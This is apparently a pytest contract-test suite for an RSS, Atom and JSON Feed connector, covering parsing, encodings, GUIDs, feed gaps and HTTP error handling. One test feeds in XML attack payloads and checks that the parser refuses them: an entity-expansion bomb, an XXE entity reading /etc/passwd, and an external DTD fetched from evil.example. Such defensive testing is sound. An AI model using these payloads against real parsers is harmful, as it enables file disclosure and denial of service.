import json
from typing import Any

import pytest

from connectors import feeds
from connectors.errors import Fatal, WaitUntil
from connectors.post import Post
from connectors.rss import Rss
from tests.contract.connectors.fixtures.rss import RssFixture, feed
from tests.contract.connectors.server import Answer, Request, running
from tests.contract.connectors.world import Pass, World, collect, context

HOST = "https://news.example"
ITEM = RssFixture().item
ATOM = b"""<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr">
<entry><id>tag:news.example,2026:1</id><title type="html">Tea &amp;amp; <b>milk</b></title>
<link href="/a/1"/><author><name>A. Writer</name></author><category term="#Tea"/>
<updated>2026-05-30T10:00:00Z</updated><published>2026-05-29T10:00:00Z</published>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>One</p><p>Two</p></div></content>
</entry></feed>"""
JSON_FEED = {
    "version": "https://jsonfeed.org/version/1.1",
    "language": "en",
    "items": [
        {"id": 7, "content_html": "<p>Hi &amp; bye</p>", "url": "/7", "author": {"name": "B"}},
        {"id": "8", "content_text": "a <b>", "date_published": "2026-05-30T10:00:00Z"},
        "no item",
    ],
}


def posts(result: Pass) -> list[Post]:
    return [step.post for step in result.steps if step.post is not None]


async def read(body: bytes, kind: str = "application/xml") -> Pass:
    answer = Answer(body=body, headers={"content-type": kind})
    async with running(lambda _: answer) as server:
        return await collect(
            Rss(context({"base_url": server.url, "urls": f"{HOST}/feed", "fastest": 0}))
        )


async def test_atom() -> None:
    [post] = posts(await read(ATOM, "application/atom+xml"))
    assert post.id == "rss:tag:news.example,2026:1"
    assert (post.title, post.text, post.lang) == ("Tea & milk", "One\n\nTwo", "fr")
    assert post.url.endswith("/a/1")
    assert (post.author.name, post.hashtags) == ("A. Writer", ["Tea"])
    assert post.created_at.day == 29
    assert post.state == "live"


async def test_json_feed() -> None:
    result = await read(json.dumps(JSON_FEED).encode(), "application/feed+json")
    first, second = posts(result)
    assert (first.text, first.author.name, second.text) == ("Hi & bye", "B", "a <b>")
    assert first.url.endswith("/7")
    assert first.id != second.id
    assert [step.dead for step in result.steps if step.dead]


@pytest.mark.parametrize("encoding", ["windows-1251", "utf-16", "koi8-r", "utf-8-sig"])
async def test_encodings(encoding: str) -> None:
    text = f'<?xml version="1.0" encoding="{encoding.removesuffix("-sig")}"?>'
    item = ITEM(1, text="Чай и молоко")
    body = f'{text}<rss version="2.0"><channel>{item}</channel></rss>'.encode(encoding)
    [post] = posts(await read(body))
    assert post.text == "Чай и молоко"


@pytest.mark.parametrize(
    "bomb",
    [
        b'<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]>',
        b'<!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
        b'<!DOCTYPE r [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>',
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
async def test_entity_bombs_are_refused(bomb: bytes, encoding: str) -> None:
    body = (bomb.decode() + feed([ITEM(1)]).decode()[21:]).encode(encoding)
    result = await read(body)
    assert posts(result) == []
    [dead] = [step.dead for step in result.steps if step.dead is not None]
    assert "refused" in str(dead)


async def test_the_whole_text_before_the_summary() -> None:
    item = (
        "<item><title>T</title><link>https://n.example/1</link><description>short</description>"
        '<content:encoded xmlns:content="http://purl.org/rss/1.0/modules/content/">'
        "<![CDATA[<p>the whole</p>]]></content:encoded>"
        '<enclosure url="https://n.example/a.mp3"/><category>Tea</category></item>'
    )
    [post] = posts(await read(feed([item])))
    assert (post.id, post.text) == ("rss:https://n.example/1", "the whole")
    assert post.media == ["https://n.example/a.mp3"]


async def test_guids_that_repeat_or_are_no_address() -> None:
    items = [f"<item><guid>1</guid><title>T{n}</title></item>" for n in range(3)]
    items.append("<item><guid>x</guid><title>X</title></item>")
    result = await read(feed(items))
    assert len(set(result.ids)) == 4
    assert result.ids[3].endswith(":x")


async def rounds(*bodies: bytes | Answer) -> list[Pass]:
    """What successive visits to one feed give, each from the cursor before."""
    current = [bodies[0]]

    def answer(_: Request) -> Answer:
        return current[0] if isinstance(current[0], Answer) else Answer(body=current[0])

    results: list[Pass] = []
    cursor: Any = None
    async with running(answer) as server:
        for body in bodies:
            current[0] = body
            source = Rss(context({"base_url": server.url, "urls": f"{HOST}/feed", "fastest": 0}))
            results.append(await collect(source, cursor))
            cursor = results[-1].cursor or cursor
    return results


async def test_a_window_that_moved_on_is_a_gap() -> None:
    first = feed([ITEM(n) for n in range(3)])
    near = feed([ITEM(n) for n in range(2, 5)])
    far = feed([ITEM(n) for n in range(10, 13)])
    results = await rounds(first, near, far)
    assert [sum(step.gap is not None for step in r.steps) for r in results] == [0, 0, 1]
    assert [len(r.ids) for r in results] == [3, 2, 3]


async def test_dates_that_are_missing_stay_as_first_seen() -> None:
    item = "<item><guid>https://n.example/1</guid><title>{}</title></item>"
    first, second = await rounds(feed([item.format("a")]), feed([item.format("b")]))
    assert posts(second)[0].state == "edited"
    assert posts(second)[0].created_at == posts(first)[0].created_at


async def test_a_gone_feed_is_left_alone() -> None:
    _, gone, after = await rounds(feed([ITEM(1)]), Answer(410), feed([ITEM(2)]))
    assert gone.error is None
    assert isinstance(after.error, Fatal)


async def test_one_bad_feed_stops_no_other() -> None:
    def answer(request: Request) -> Answer:
        bad = {"/limited": Answer(429, headers={"retry-after": "60"}), "/html": Answer(body=b"<p>")}
        return bad.get(request.path, Answer(body=feed([ITEM(1)])))

    async with running(answer) as server:
        notes: list[str] = []
        urls = [f"{server.url}/{name}" for name in ("limited", "html", "good")]
        source = Rss(context({"urls": urls}, on_note=notes.append))
        result = await collect(source)
        assert result.error is None
        assert len(result.ids) == 1
        assert len(notes) == 2
        await collect(source, result.cursor)
        assert [r.path for r in server.requests].count("/limited") == 1
        alone = await collect(Rss(context({"urls": urls[0]})))
        assert isinstance(alone.error, WaitUntil)


async def test_a_moved_feed_is_asked_at_its_new_place() -> None:
    def answer(request: Request) -> Answer:
        if request.path == "/old":
            return Answer(301, headers={"location": "/new"})
        return Answer(body=feed([ITEM(1)]))

    async with running(answer) as server:
        source = Rss(context({"urls": f"{server.url}/old", "fastest": 0}))
        await collect(source, (await collect(source)).cursor)
        assert [request.path for request in server.requests] == ["/old", "/new", "/new"]


async def test_unchanged_feeds_cost_nothing() -> None:
    fixture = RssFixture()
    async with fixture.serve(World([ITEM(1)])) as server:
        source = Rss(context(fixture.options(server.url)))
        first = await collect(source)
        second = await collect(source, first.cursor)
    assert posts(second) == []
    assert second.cursor == first.cursor


@pytest.mark.parametrize("body", [b"", b"{", b"[]", b"plain words", b"<html><p>hi</p></html>"])
def test_what_is_no_feed(body: bytes) -> None:
    with pytest.raises(feeds.NotAFeed):
        feeds.parse(body, "text/html", HOST)
